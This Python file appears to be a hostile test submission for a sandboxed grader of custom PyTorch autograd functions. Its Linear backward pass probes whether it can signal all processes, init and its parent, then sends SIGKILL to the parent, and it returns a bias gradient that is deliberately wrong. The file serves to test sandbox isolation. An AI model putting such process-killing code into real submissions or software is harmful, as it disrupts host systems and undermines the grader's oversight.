"""Hostile submission: signals other processes (everyone, init, its parent) and would ptrace them."""

import os
import signal

import torch


class MatMul(torch.autograd.Function):
    @staticmethod
    def forward(ctx, a, b):
        ctx.save_for_backward(a, b)
        return a @ b

    @staticmethod
    def backward(ctx, grad_output):
        a, b = ctx.saved_tensors
        return grad_output @ b.T, a.T @ grad_output


class Linear(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x, weight, bias):
        ctx.save_for_backward(x, weight)
        return x @ weight.T + bias

    @staticmethod
    def backward(ctx, grad_output):
        x, weight = ctx.saved_tensors
        reached = []
        for target in (-1, 1, os.getppid()):
            try:
                os.kill(target, 0)
                reached.append(target)
            except OSError:
                pass
        try:
            os.kill(os.getppid(), signal.SIGKILL)
        except OSError:
            pass
        if reached:
            raise RuntimeError(f"could signal {reached}")
        return grad_output @ weight, grad_output.T @ x, grad_output  # bias never summed
